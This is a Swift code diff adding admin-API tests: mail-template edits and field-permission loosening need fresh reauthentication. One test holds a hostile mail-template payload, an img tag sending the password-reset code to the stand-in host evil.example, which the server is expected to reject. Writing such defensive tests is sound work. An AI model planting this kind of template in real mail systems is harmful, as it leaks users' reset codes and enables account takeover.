@@ -32,6 +32,7 @@ struct AdminPresenceTests {
         "PUT \(application)/claims", "PUT \(application)/hooks/{hook}", "DELETE \(application)/hooks/{hook}",
         "POST \(application)/hooks/{hook}/rotate",
         "PUT \(application)/old-services/{service}", "DELETE \(application)/old-services/{service}",
+        "PUT \(application)/mail/templates/{kind}/{language}", "DELETE \(application)/mail/templates/{kind}/{language}",
     ]
 
     private func ask(_ world: AdminWorld, _ who: String, _ route: AdminRoute) async throws -> Answer {
@@ -79,6 +80,48 @@ struct AdminPresenceTests {
         // It has nothing to prove itself by.
         let proof = try await world.send(key, .post, "reauthenticate", body: #"{"password": "x", "code": "000000"}"#)
         expect(proof, 401, .adminRequired)
+    }
+
+    @Test("is not enough to change what mails say")
+    func mail() async throws {
+        let world = try await AdminWorld(roles: [])
+        let path = world.path("/mail/templates/password-reset/en")
+        let body = #"{"subject": "s", "text": "Your code: {{code}}"}"#
+        #expect(try await world.send("owner", .put, path, body: body).status == 200)
+        let hostile = #"{"subject": "s", "text": "{{code}}", "html": "<img src='https://evil.example/?{{code}}'>"}"#
+        #expect(try await world.send("owner", .put, path, body: hostile).text.contains("secret_in_address"))
+        world.server.clock.advance(by: AdminSession.freshness)
+        expect(try await world.send("owner", .put, path, body: body), 403, .reauthenticationRequired)
+        expect(try await world.send("owner", .delete, path), 403, .reauthenticationRequired)
+    }
+
+    @Test("tightens rules of fields, and loosens none")
+    func fields() async throws {
+        let world = try await AdminWorld(roles: [])
+        let (all, one) = (world.path("/fields"), world.path("/fields/isStaff"))
+        let strict = #"{"type": "boolean", "read": "owner", "write": "server", "required": true, "default": false}"#
+        world.server.clock.advance(by: AdminSession.freshness)
+        // Another default of what only the server writes is a value that nobody has decided freshly.
+        expect(try await world.send("owner", .put, one, body: strict), 403, .reauthenticationRequired)
+        let tight = #"{"type": "boolean", "read": "owner", "write": "server"}"#
+        #expect(try await world.send("owner", .put, one, body: tight).status == 200)
+        #expect(try await world.send("owner", .put, all, body: #"{"policy": "closed"}"#).status == 200)
+        let labelled = #"{"type": "boolean", "read": "server", "write": "server", "label": {"en": "Staff"}}"#
+        #expect(try await world.send("owner", .put, one, body: labelled).status == 200)
+        for loose in [
+            #"{"type": "boolean", "read": "owner", "write": "owner"}"#, #"{"read": "server", "write": "server"}"#,
+            #"{"type": "boolean", "read": "public", "write": "server"}"#,
+            #"{"type": "boolean", "read": "server", "write": "server", "default": true}"#,
+        ] {
+            expect(try await world.send("owner", .put, one, body: loose), 403, .reauthenticationRequired)
+        }
+        expect(
+            try await world.send("owner", .put, world.path("/fields/nick"), body: "{}"), 403, .reauthenticationRequired)
+        expect(try await world.send("owner", .delete, one), 403, .reauthenticationRequired)
+        expect(
+            try await world.send("owner", .put, all, body: #"{"policy": "open"}"#), 403, .reauthenticationRequired)
+        let wide = #"{"policy": "closed", "limits": {"fields": 400}}"#
+        expect(try await world.send("owner", .put, all, body: wide), 403, .reauthenticationRequired)
     }
 
     @Test("gets another token with password and code, and ends when it would have ended")
